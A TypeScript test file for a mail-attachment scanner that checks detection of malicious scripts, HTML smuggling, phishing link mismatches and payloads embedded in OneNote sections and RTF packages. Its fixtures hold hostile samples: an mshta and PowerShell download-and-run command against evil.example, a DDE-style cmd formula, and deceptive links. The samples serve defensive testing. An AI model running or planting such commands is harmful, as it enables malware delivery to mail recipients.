import { describe, expect, it } from 'vitest';
import { readFileFacts } from '../../../../core/mail/attachment/file-facts.ts';
import { analyzeMail } from '../../../../core/mail/analyze-mail.ts';
import { detectType } from '../../../../core/mail/file-type.ts';
import { MailBudget } from '../../../../core/mail/mail-budget.ts';
import type { FileFact } from '../../../../core/model/mail-details.ts';
import { ascii, asciiz, classId, hex, join, u16, u32 } from './byte-builder.ts';
import { detailsOf, documentFacts } from './facts.ts';
import { program } from './program/program-builder.ts';
import { withAttachment } from '../mail-builder.ts';
import { processorMs } from '../../../processor-time.ts';

const SCRIPT = 'var s=new ActiveXObject("WScript.Shell");s.Run("mshta http://evil.example/a.hta");';
const BATCH = '@echo off\r\npowershell -w hidden iwr http://evil.example/a.exe -OutFile %temp%\\a.exe\r\n';
const PAGE = '<script>location=URL.createObjectURL(new Blob([atob("http://evil.example/q")]))</script>';

const factsOf = (text: string, name: string): Promise<readonly FileFact[]> =>
  readFileFacts(ascii(text), name, detectType(ascii(text)), {});
const kinds = (facts: readonly FileFact[]): string[] => facts.map(({ kind }) => kind);

describe('a script, a page or a shortcut by its name', () => {
  it.each(['//\x01\r\n', 'GIF89a=1;', 'MZ=1;', '//%PDF-1.4\r\n', 'BZh=1;', '//-lh5-\r\n', '<!--\r\n'])(
    'is read as a script though it begins with %j',
    async (beginning) => {
      const facts = await factsOf(beginning + SCRIPT, 'a.js');
      expect(detailsOf(facts, 'script')).toEqual(['WScript.Shell, ActiveXObject, mshta']);
      expect(detailsOf(facts, 'written-address')).toEqual(['http://evil.example/a.hta']);
    },
  );

  it.each(['<html>\0', '\x01<html>', 'GIF89a<html>', '<!--%PDF-1.4--><html>', 'x'])(
    'is read as a page though it begins with %j',
    async (beginning) => {
      expect(kinds(await factsOf(beginning + PAGE, 'a.html'))).toEqual(
        expect.arrayContaining(['html-smuggling', 'html-script']),
      );
    },
  );

  it('is read as a shortcut in spite of a control character', async () => {
    const facts = await factsOf('[InternetShortcut]\r\nX=\x01\r\nURL=file://evil.example/a.vbs\r\n', 'a.url');
    expect(detailsOf(facts, 'shortcut-target')).toEqual(['file://evil.example/a.vbs']);
  });

  it('is no text by another name', async () => {
    expect(await factsOf(`//\x01\r\n${SCRIPT}`, 'a.bin')).toEqual([]);
  });

  it('keeps what its text does when a reader of documents finds something in it too', async () => {
    expect(kinds(await factsOf(`<html>${PAGE}<!-- \n=cmd|'/c a'!A0\n -->`, 'a.html'))).toContain('html-smuggling');
  });

  it('is read at its end when padding stands in front; that it was not read whole is told', async () => {
    const facts = await factsOf(`<html><!--${'x'.repeat(8_500_000)}-->${PAGE}`, 'a.html');
    expect(kinds(facts)).toEqual(expect.arrayContaining(['html-smuggling', 'reading-cut']));
  });
});

describe('a link of an attached page', () => {
  const mismatches = async (link: string): Promise<string[]> =>
    detailsOf(await factsOf(`<html><p>Please log in.</p>${link}`, 'a.html'), 'html-link-mismatch');

  it.each([
    ['<a href="https://evil.example.net/x">https://www.mofa.go.jp/login</a>', 'https://evil.example.net/x'],
    ['<a href=//evil.example.net>www.mofa.go.jp</a>', '//evil.example.net'],
    ['<a href="https://t.example.com/?u=https%3A%2F%2Fevil.example.net">mofa.go.jp</a>', 'https://evil.example.net'],
  ])('that shows another address is told: %s', async (link, real) => {
    const [told = ''] = await mismatches(link);
    expect(told).toContain('mofa.go.jp');
    expect(told.endsWith(`→ ${real}`)).toBe(true);
  });

  it.each([
    '<a href="https://evil.example.net/x">ログイン</a>',
    '<a href="https://www.mofa.go.jp/mofaj/">https://www.mofa.go.jp/</a>',
    '<a href="https://login.mofa.go.jp/">mofa.go.jp</a>',
    '<a href="https://clicks.us1.list-manage.com/track/1">https://www.company.example/</a>',
    '<a href="#top">www.mofa.go.jp</a>',
    '<a href="https://evil.example.net/r.pdf">report.pdf</a>',
  ])('that does not is none: %s', async (link) => expect(await mismatches(link)).toEqual([]));

  it('gives no address that it only shows, and speaks for the sign of links', async () => {
    const page = '<html><a href="https://evil.example.net/x">https://www.mofa.go.jp/login</a>';
    const mail = await analyzeMail(withAttachment('a.html', ascii(page)));
    const sign = mail.signs.find(({ id }) => id === 'body.link-mismatch');
    expect(sign).toMatchObject({
      weight: 2,
      evidence: 'a.html : html-link-mismatch https://www.mofa.go.jp/login → https://evil.example.net/x',
    });
    const told = mail.indicators.filter(({ where }) => where.includes('html-link-mismatch'));
    expect(told).toEqual([]);
    expect(mail.indicators.map(({ value }) => value)).toContain('https://evil.example.net/x');
  });
});

/** A section with one file in it. */
const section = (file: Uint8Array): Uint8Array =>
  join(
    classId('7B5C52E4-D88C-4DA7-AEB1-5378D02996D3'),
    classId('BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC'),
    u32(file.length, 0, 0, 0, 0),
    file,
  );

/** A document with a package in it. */
function packaged(name: string, content: string): Uint8Array {
  const body = join(
    u16(2),
    asciiz(name),
    asciiz(`C:\\${name}`),
    u16(0, 3),
    u32(name.length + 4),
    asciiz(`C:\\${name}`),
    u32(content.length),
    ascii(content),
  );
  const data = join(u32(0x501, 2, 8), asciiz('Package'), u32(0, 0, body.length), body);
  return ascii(`{\\rtf1{\\object\\objemb{\\*\\objdata ${hex(data)}}}}`);
}

describe('what lies in a document', () => {
  it.each([
    ['a OneNote section', section(ascii(BATCH))],
    ['a package of an RTF document', packaged('a.bat', BATCH)],
  ])('is read as a script in %s', (_, bytes) => {
    const facts = documentFacts(bytes);
    expect(detailsOf(facts, 'embedded-program').join()).toContain('text/x-msdos-batch');
    expect(detailsOf(facts, 'script').join()).toContain(': PowerShell');
    expect(detailsOf(facts, 'written-address')).toEqual(['http://evil.example/a.exe']);
  });

  it('is read as a page, and by its name', () => {
    expect(kinds(documentFacts(section(ascii(`<html>${PAGE}`))))).toContain('html-smuggling');
    expect(detailsOf(documentFacts(packaged('a.js', `MZ=1;${SCRIPT}`)), 'script')).toHaveLength(1);
  });

  it('is read as a shortcut and as a program', () => {
    const url = ascii('[InternetShortcut]\r\nURL=file://evil.example/a.vbs\r\n');
    expect(detailsOf(documentFacts(section(url)), 'shortcut-target')).toEqual(['1: file://evil.example/a.vbs']);
    expect(detailsOf(documentFacts(section(program({}))), 'program')).toEqual(['1: EXE x64 (64 bit)']);
  });
});

describe('what texts cost', () => {
  it('is shared by those of one mail, RTF among them; what is left out is told', async () => {
    const started = processorMs();
    const budget = new MailBudget();
    budget.documentBytes.left = 8_000_000;
    const rtf = ascii(`{\\rtf1 ${'a'.repeat(6_000_000)}`);
    const cut = [];
    for (let count = 0; count < 20; count += 1) {
      const facts = await readFileFacts(rtf, 'a.rtf', 'application/rtf', { budget });
      cut.push(kinds(facts).includes('reading-cut'));
    }
    expect(cut).toEqual([false, ...Array.from({ length: 19 }, () => true)]);
    const page = await readFileFacts(ascii(`<html>${PAGE}`), 'a.html', 'text/html', { budget });
    expect(new Set(kinds(page))).toEqual(new Set(['reading-cut']));
    expect(processorMs() - started).toBeLessThan(10_000);
  });
});
